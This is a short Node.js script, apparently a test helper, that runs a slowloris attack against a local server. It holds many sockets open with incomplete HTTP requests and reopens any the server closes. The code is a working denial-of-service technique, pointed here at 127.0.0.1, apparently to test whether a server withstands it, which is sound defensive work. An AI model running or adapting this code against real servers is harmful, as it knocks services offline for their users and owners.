// A slowloris client, run as its own process so that its sockets cost the server's process
// nothing but what the server does with them: `count` sockets from `localAddress`, each sending
// a request line and one header and then nothing, each reopened as soon as the server closes it.
// Prints one JSON line on stdout when it has opened them all ("ready"), and one when stopped by
// SIGTERM ("done", with the connects made and the closes seen).
// Usage: node _slowloris.mjs <port> <count> <localAddress>
import { connect } from "node:net";

const [port, count, localAddress] = [Number(process.argv[2]), Number(process.argv[3]), process.argv[4]];
let connects = 0;
let closes = 0;
let open = 0;
let stopping = false;
let announced = false;

/** Every first socket has connected or been closed: the attack is at full strength. */
function announce() {
  if (announced || open + closes < count) return;
  announced = true;
  process.stdout.write(JSON.stringify({ ready: true }) + "\n");
}

function attack() {
  if (stopping) return;
  connects++;
  const socket = connect({ port, host: "127.0.0.1", localAddress }, () => {
    open++;
    socket.write("GET / HTTP/1.1\r\nHost: x\r\n");
    announce();
  });
  socket.on("error", () => undefined);
  socket.once("close", () => {
    closes++;
    announce();
    // Reopened on the next turn of the loop: a client that keeps its sockets by any means.
    setImmediate(attack);
  });
}

for (let i = 0; i < count; i++) attack();
process.on("SIGTERM", () => {
  stopping = true;
  process.stdout.write(JSON.stringify({ done: true, connects, closes }) + "\n", () => process.exit(0));
});
